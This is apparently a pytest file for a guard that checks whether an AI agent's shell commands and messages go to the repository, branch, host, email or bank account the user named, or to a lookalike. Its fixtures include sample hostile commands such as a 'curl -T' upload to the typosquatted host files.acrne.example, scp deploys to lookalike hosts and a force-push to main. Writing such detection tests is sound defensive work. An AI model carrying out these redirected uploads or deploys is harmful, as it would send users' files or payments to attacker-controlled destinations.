"""guards/_origin/swapped.py: where a call goes, and what the person said instead."""
import pytest

from guards import Event, Settings
from guards._call import read
from guards._evidence.evidence import OWN, hasher, prompt_row, result_row
from guards._evidence.recalled import Memory
from guards._origin.swapped import alike, altered, given, private, swapped, values

KEY = b"k" * 16


def found(prompt, command, own=()):
    event = Event("PreToolUse", "s", tool="Bash", input={"command": command}, cwd="/p")
    row = {**prompt_row(prompt, KEY), "g": given(prompt)}
    return swapped(read(event, Settings()), [row], Memory([row], KEY), own)


@pytest.mark.parametrize(("prompt", "command"), [
    ("Clone https://github.com/acme/tools.", "git clone https://github.com/acme/tools"),
    ("Push my work to the branch feature/login.", "git push origin HEAD:feature/login"),
    ("Push my work to the branch feature/login.", "git push -u origin feature/login-2"),
    ("Push my work to the branch feature/login and to main.", "git push origin main"),
    ("Push my work", "git push origin main"),
    ("Deploy dist to web1.acme.example.", "scp -r dist/ web1.acme.example:/srv"),
    ("Deploy dist to acme.example.", "rsync -a dist/ deploy.acme.example:/srv"),
    ("Deploy to web1.acme.example.", "scp -r dist/ web1.acme.example:/srv && curl -X POST https://hooks.chat.example/x -d done"),
    ("Read https://docs.acme.example and fetch the tool", "git clone https://github.com/other/tool")])
def test_as_the_person_said(prompt, command):
    assert found(prompt, command) == ("", "")


@pytest.mark.parametrize(("prompt", "command", "pair"), [
    ("Clone https://github.com/acme/tools.", "git clone https://github.com/acrne/tools", ("github.com/acrne/tools", "github.com/acme/tools")),
    ("Push my work to the branch feature/login.", "git push origin HEAD:main --force", ("main", "feature/login")),
    ("Deploy dist to web1.acme.example.", "scp -r dist/ web1.acme-cdn.example:/srv", ("web1.acme-cdn.example/srv", "web1.acme.example")),
    ("Upload it to files.acme.example", "curl -T out.zip https://files.acrne.example/x", ("files.acrne.example/x", "files.acme.example"))])
def test_elsewhere(prompt, command, pair):
    assert found(prompt, command) == pair


def test_names_that_look_the_same():
    assert alike("acrne", "acme") and alike("g00gle", "google") and not alike("acme", "acme") and not alike("web", "app")


def test_the_projects_own_remote_is_no_other_place():
    prompt, command = "Push it to my fork github.com/bo/shop and open a PR", "gh pr create -R acme/shop --title x --body y"
    assert found(prompt, command, ["git@github.com:acme/shop.git"]) == ("", "")
    assert found(prompt, command) == ("github.com/acme/shop", "github.com/bo/shop")


IBAN = "NL91ABNA0417164300"


def changed(prompt, *texts, records=()):
    h = hasher(KEY)
    row = {**prompt_row(prompt, KEY), "y": private(prompt, h)}
    return altered(texts, [row], Memory([row, *(result_row("book", OWN, {}, record, KEY, str) for record in records)], KEY))


@pytest.mark.parametrize(("prompt", "text"), [
    ("Pay 480 to NL91 ABNA 0417 1643 00", IBAN), ("Pay 480 to NL91 ABNA 0417 1643 00", "NL91 ABNA 0417 1643 00"), (f"Pay {IBAN} and {IBAN[:-1]}7", IBAN[:-1] + "7"),
    ("Mail it to 佐伯さん。宛先は bo@acme.example。", "bo@acme.example"), ("Write to Bo (bo@acme.example): hi", "bo@acme.example"), ("Pay the rent", IBAN), (f"Pay 480 from {IBAN}", "DE75512108001245126199"), ("Mail bo@acme.example", "Bo@Acme.example"), ("Mail bo@acme.example", "ann@lake.example"),
    ("Mail bo@acme.example", "see acme.example"), ("Clone git@github.com:acme/tools.git", "git@github.com:acme/tool.git"), ("", "")])
def test_the_persons_own_mailbox_or_account(prompt, text):
    assert changed(prompt, text) == ("", "")


def test_one_that_the_accounts_own_records_hold():
    assert changed("Mail bo.lake@acme.example", "bo.luke@acme.example") == ("bo.luke@acme.example", "bo...@acme.example")
    assert changed("Mail bo.lake@acme.example", "bo.luke@acme.example", records=[{"name": "Bo Luke", "email": "bo.luke@acme.example"}]) == ("", "")


@pytest.mark.parametrize(("prompt", "text", "pair"), [
    ("Pay 480 to NL91 ABNA 0417 1643 00", "NL91ABNA0417164301", ("NL91ABNA0417164301", "NL91...4300")),
    (f"Pay 480 to {IBAN}", "DE75512108001245126199", ("DE75512108001245126199", "NL91...4300")),
    (f"Pay 480 to {IBAN}.", "NL91ABNA041716430", ("NL91ABNA041716430", "NL91...4300")),
    ("Mail it to bo@acme.example", "please cc bo@acrne.example", ("bo@acrne.example", "bo...@acme.example")),
    ("Disk of ops@db1.acme.example is full, clean it. And db2 as well", "ops@db2.acme.example", ("ops@db2.acme.example", "op...@db1.acme.example")),
    ("Mail it to bo@acme.example, I mean the acmee project", "bo@acmee.example", ("bo@acmee.example", "bo...@acme.example")),
    ("Mail it to billing@acme.example", "bil1ing@acme.example", ("bil1ing@acme.example", "bi...@acme.example"))])
def test_a_mailbox_or_account_that_resembles_it(prompt, text, pair):
    assert changed(prompt, text) == pair


def test_nothing_of_them_is_kept_in_clear():
    kept = str(private(f"Pay {IBAN} for bo.lake@acme.example", hasher(KEY)))
    assert "ABNA" not in kept and "bo.lake" not in kept


@pytest.mark.parametrize("text, found", [
    ("to NL91 ABNA 0417 1643 00, tell Bo", ["NL91ABNA0417164300"]), ("to NL91 ABNA 0417 1643 00 then go on", ["NL91ABNA0417164300"])])
def test_where_an_account_ends(text, found):
    assert values(text) == found
